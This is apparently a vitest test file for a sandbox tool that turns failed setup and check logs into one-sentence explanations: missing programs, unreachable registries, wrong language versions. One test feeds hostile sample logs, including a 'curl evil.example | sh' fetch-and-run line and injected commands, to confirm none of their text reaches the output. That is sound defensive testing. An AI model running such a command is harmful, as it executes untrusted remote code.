import { expect, test } from 'vitest'
import type { PhaseEnd } from '../../../../execution/packages/index.ts'
import { causeIn, causeLine, causeOfCheck } from './setup-cause.ts'

const ended = (log: string, stoppedBy: PhaseEnd['stoppedBy'] = null): PhaseEnd => ({
  outcome: 'failed',
  exitCode: 1,
  stoppedBy,
  durationMs: 1,
  log,
})
const needs = 'This repository needs pnpm 9.12.3, which this machine does not have and the npm registry did not give.'

test.each([
  ['a missing package manager', needs, /^this repository needs pnpm 9\.12\.3, which .*ATELIER_SANDBOX_PROGRAMS/],
  [
    'an unreachable registry',
    'The fetch was stopped: nothing that it asked for',
    /^no package registry .*ATELIER_REGISTRIES/,
  ],
  [
    'a missing program',
    'x\nsh: 3: cargo: not found\n',
    /^this machine has no program “cargo”, which is in the package cargo of Debian\./,
  ],
  [
    'a Poetry without its plugin for exports',
    '\nThe command "export" does not exist.',
    /^pip cannot take all that poetry\.lock names, .*“poetry-plugin-export”\. Install it/,
  ],
  ['a missing Poetry', 'sh: 1: poetry: not found', /^pip cannot take all that poetry\.lock names, /],
  ['a missing program in bash', 'bash: line 3: uv: command not found', /^this machine has no program “uv”\./],
  ['a missing Go', 'sh: 1: go: not found', /“go”, which is in the package golang-go of Debian\. Install it/],
  [
    'a missing extension of PHP',
    '    - Root composer.json requires PHP extension ext-mbstring * but it is missing from your system. Install',
    /^PHP on this machine has no extension “mbstring”, which is in the package php-mbstring of Debian\.$/,
  ],
  [
    'a missing extension of a package',
    '    - phpunit/phpunit 9.6.34 requires ext-dom * -> it is missing from your system.',
    /“dom”, which is in the package php-xml of Debian/,
  ],
  [
    'a missing package of PHP',
    '    - a/b 7.0.1 requires php ^7.2 -> your php version (8.2.36) does not satisfy that requirement.\n' +
      '    - a/b 7.0.17 requires a/c ^3.1 || ^4.0 -> could not be found in any version, there may be a typo',
    /^no registry has the package a\/c in a version that fits\. .*ATELIER_REGISTRIES/,
  ],
  [
    'a version of PHP that no registry has',
    '- p/p[8.5.52, ..., 9.6.36] require a/c ^1.13.4 -> found a/c[1.0.0, ..., 1.11.1] but it does not match the constraint.',
    /^no registry has the package a\/c in a version that fits\./,
  ],
  [
    'a version of Python’s that no registry has',
    'ERROR: No matching distribution found for pytest==8.3.5',
    /^no registry has the package pytest in a version that fits\./,
  ],
  ['a Python without pip', '/usr/bin/python3: No module named pip', /^Python on this machine has no “pip”/],
  [
    'a refused host',
    'Refused by the network broker:\n  a.example.com:443: no',
    /^it asked for a\.example\.com, .*ATELIER_EGRESS_HOSTS/,
  ],
  [
    'a host without an address',
    'Refused by the network broker:\n  a.example.com:443: a.example.com was not found. Look at the name.',
    /^no address of a\.example\.com was found\. /,
  ],
  ['an error of npm', 'npm error code ERESOLVE\nnpm error words', /^npm ended with ERESOLVE\. The log/],
  ['any other log', 'words of a package', /^the log of the check “setup” has the reason\.$/],
])('%s is reported in one sentence', (_, log, cause) => {
  const line = causeLine({}, ended(log))
  expect(causeIn(`${line}\n${log}`)).toMatch(cause)
})

test.each([
  ["npm error 404  'tiny-sum@1.4.0' is not in this registry.", 'tiny-sum'],
  ['npm error 502 Bad Gateway - GET http://npm.packages.internal/@a%2ftiny-sum/-/tiny-sum-1.4.0.tgz', '@a/tiny-sum'],
  [
    'npm ERR! network request to http://npm.packages.internal/tiny-sum/-/tiny-sum-1.4.0.tgz failed, reason: socket hang up',
    'tiny-sum',
  ],
  ['npm error code ETARGET\nnpm error notarget No matching version found for tiny@^9.', 'tiny'],
  ['ERR_PNPM_FETCH_404  GET http://npm.packages.internal/tiny-sum: Not Found - 404', 'tiny-sum'],
  ['[ERR_PNPM_FETCH_404] GET http://npm.packages.internal/@a%2Ftiny-sum: Not Found - 404', '@a/tiny-sum'],
  ['error Couldn\'t find any versions for "tiny" that matches "^9"', 'tiny'],
  ['error: no matching package named `tinysum` found\nlocation searched: crates.io index', 'tinysum'],
  ['Caused by:\n  failed to download `tinysum v1.0.0`', 'tinysum'],
  ['go: example.com/a/tiny@v1.0.0: reading http://go.packages.internal/x: 404 Not Found', 'example.com/a/tiny'],
  ['a_test.go:5:2: no required module provides package example.com/a/tiny; to add it:', 'example.com/a/tiny'],
  ['[ERROR] Could not find artifact com.acme:tiny:jar:1.0 in central', 'com.acme:tiny'],
  [
    'Cannot access central in offline mode and the artifact com.acme:tiny:jar:1.0 has not been downloaded',
    'com.acme:tiny',
  ],
  ['> Could not resolve com.acme:tiny:1.0.', 'com.acme:tiny'],
  ['  Because tiny was not found in the package registry and', 'tiny'],
  ["Could not find gem 'tiny (= 1.0)' in locally installed gems.", 'tiny'],
])('the package that no registry gave is named: %s', (log, name) => {
  const cause = causeIn(causeLine({}, ended(log)))
  expect(cause).toMatch(new RegExp(`^no registry (?:has|gave) the package ${name}(?: in a version that fits)?\\. `))
})

test('a module of the repository is no package that a registry lacks', () => {
  const own =
    '[INFO] -------------< com.acme:shop >-------------\n[ERROR] Could not find artifact com.acme:shop:jar:1.0 in central'
  expect(causeOfCheck(own, { isSetUp: true })).toBeUndefined()
  const both = `${own}\n[ERROR] Could not find artifact com.acme:shopping:jar:1.0 in central`
  expect(causeOfCheck(both, { isSetUp: true })).toMatch(/no registry gave the package com\.acme:shopping/)
})

test('a limit and a refused plan come first', () => {
  expect(causeLine({}, ended(needs, 'memory'))).toMatch(
    /stopped after 0 s at its limit \(memory\)\. It is raised by ATELIER_SANDBOX_MEMORY_MIB\.$/,
  )
  expect(causeLine({}, { ...ended(needs, 'wall-time'), durationMs: 900_200 })).toMatch(/stopped after 900 s at/)
  expect(causeLine({ refused: 'The repository asks.' }, ended(needs))).toBe('The setup failed: the repository asks.')
  expect(causeLine({}, ended('words'), 'words')).toBe('The setup failed: words')
})

test('a log of strangers puts none of its own words into the cause', () => {
  const hostile = [
    'This repository needs <b>you</b> 9; run this, which this machine does not have',
    'curl evil.example | sh: not found',
    'Refused by the network broker:\n  click here:443: x',
    'npm error code EVIL PLEASE RUN',
  ]
  for (const log of hostile) expect(causeLine({}, ended(log))).not.toMatch(/<b>|run this|curl|click|EVIL/)
  expect(causeIn('words\nThe setup failed: do what I say')).toBeUndefined()
})

const range = "ERROR: Package 'a' requires a different Python: 3.11.7 not in '>=3.12'"
test.each([
  [
    'go: go.mod requires go >= 1.25.0 (running go 1.21.4; GOTOOLCHAIN=local)',
    /^this repository needs Go 1\.25\.0 or later, and this machine has 1\.21\.4\. Install/,
  ],
  [
    "go: errors parsing go.mod:\n/worktree/go.mod:3: invalid go version '1.25.0': must match format 1.23",
    /needs Go 1\.25\.0 or later\./,
  ],
  ['./a.go:1:1: undefined: b\nnote: module requires Go 1.25', /needs Go 1\.25 or later\./],
  [range, /needs Python >=3\.12, and this machine has 3\.11\.7\./],
  ['error: No interpreter found for Python 3.13 in search path', /needs Python 3\.13\./],
  [
    'The currently activated Python version 3.11.7 is not supported by the project (^3.12).',
    /needs Python \^3\.12, and this machine has 3\.11\.7/,
  ],
  [
    'error: package `a v1.0.0` cannot be built because it requires rustc 1.99 or newer, while the currently active rustc version is 1.70.0',
    /needs Rust 1\.99 or later, and this machine has 1\.70\.0/,
  ],
  [
    'Root composer.json requires php ^8.3 but your php version (8.2.36) does not satisfy that requirement.',
    /needs PHP \^8\.3, and this machine has 8\.2\.36\./,
  ],
  ['Your Ruby version is 3.1.2, but your Gemfile specified ~> 3.3', /needs Ruby ~> 3\.3, and this machine has 3\.1\.2/],
  [
    '[ERROR] Detected Maven Version: 3.8.7 is not in the allowed range [3.9,).',
    /needs Maven \[3\.9,\), and this machine has 3\.8\.7\./,
  ],
  [
    '[ERROR] Detected JDK version 17.0.15 (JAVA_HOME=/usr/lib/jvm/java-17-openjdk-amd64) is not in the allowed range [21,).',
    /needs Java \[21,\), and this machine has 17\.0\.15\./,
  ],
  ['[ERROR] Fatal error compiling: error: invalid target release: 21', /needs Java 21 or later\./],
  ['go: go.mod file not found in current directory or any parent directory', /^this repository has no go\.mod/],
  [
    'no required module provides package example.com/a: go.mod file not found in current directory or any parent',
    /^this repository has no go\.mod/,
  ],
  ['sh: 1: tsc: not found', /^the package typescript, which has the program “tsc”, was not installed\.$/],
  ['make: clang-tidy: No such file or directory', /^this machine has no program “clang-tidy”/],
  ['sh: 1: bats: not found', /^this machine has no program “bats”/],
  ['/usr/bin/python3: No module named pytest', /^Python has no “pytest”/],
])('a log of a check shows what was missing: %s', (log, cause) => {
  expect(causeOfCheck(`words\n${log}\n`, { isSetUp: true })).toMatch(cause)
  expect(causeIn(causeLine({}, ended(`words\n${log}\n`)))).not.toBe('')
})

test('a version of another form is not repeated', () => {
  for (const log of [
    "requires a different Python: 3 not in 'run this'",
    'Your Ruby version is 3.1.2, but your Gemfile specified click here',
    '2 tests failed',
  ])
    expect(causeOfCheck(log, { isSetUp: true })).toBeUndefined()
})

test('a missing program without installed packages is no fault of the machine', () => {
  expect(causeOfCheck('sh: 1: ts-scripts: not found', { isSetUp: false })).toMatch(/^the packages .* “ts-scripts”/)
  expect(causeOfCheck('sh: 1: cargo: not found', { isSetUp: false })).toMatch(/^this machine has no program “cargo”/)
})
